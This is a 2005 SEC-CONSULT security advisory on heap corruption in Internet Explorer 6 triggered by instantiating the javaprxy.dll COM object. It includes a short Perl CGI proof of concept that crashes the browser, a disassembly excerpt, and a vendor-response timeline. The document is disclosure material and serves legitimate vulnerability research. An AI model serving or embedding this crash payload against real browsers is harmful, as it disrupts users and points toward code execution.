IE6 javaprxy.dll COM instantiation heap corruption

SEC-CONSULT Security Advisory < 20050629-0 >


title: IE6 javaprxy.dll COM instantiation heap corruption


program: Internet Explorer

vulnerable version: 6.0.2900.2180


found: 2005-06-17

by: sk0L & Martin Eiszner / SEC-CONSULT /







Internet Explorer supports instantiation of non-ActiveX controls, e.g COM objects, via <object> tags. according to M$, COM components respond gracefully to attempts to treat them as ActiveX controls. on the contrary, we found that at least 20 of the objects available on an average XP system either lead to an instant crash or an exception after a few reloads.



vulnerability overview:



Loading HTML documents with certain embedded CLSIDs results in null-pointer exceptions or memory corruption. in one case, we could leverage this bug to overwrite a function pointer in the data segment. it *may* be possible to exploit this issue to execute arbitrary code in the context of IE.proof of concept:



this simple CGI should crash IE.




# in order for this to work javaprxy.dll must be available on the client.

my $clsid = '03D9F3F2-B0E3-11D2-B081-006008039BF0'; # javaprxy.dll

my $html1 = "<html><body>\n<object classid=\"CLSID:".$clsid."\"></object>\n";
my $html2 = "\n</body><script>location.reload();</script></html>\n";

print "Content-Type: text/html;\r\n\r\n";

print $html1.("A"x30000).$html2;


on our lab machine, we, end up with eax=00410041, and an exception occurs at the following location in javaprxy.dll:.text:7C508660                 mov     eax, [ecx]
.text:7C508662                 test    eax, eax
.text:7C508664                 jz      short locret_7C50866C
.text:7C508666                 mov     ecx, [eax]
.text:7C508668                 push    eax
.text:7C508669                 call    dword ptr [ecx+8]



as you can see, this situation may be exploitable, considering that we have some level of control over eax.



vulnerable versions:



javaprxy.dll 5.00.3810

internet explorer 6.0.2900.2180.xpsp_sp2_gdr.050301-1519


these are the versions tested, other versions may of course be vulnerable.


vendor status:vendor notified: 2005-06-17

vendor response: 2005-06-17

patch available: ?


microsoft does not confirm the vulnerability, as their product team can not reproduce condition. however, they are looking at making changes to handle COM objects in a more robust manner in the future.


UPDATE (2005-06-30): we have been informed that microsoft now confirms the issue, as it has been successfully reproduced with the version numbers listed above. they are currently working on a bug fix.< Bernhard Müller / MartinEiszner > / /

SGT :::walter|bruder, flo, tke, dfa :::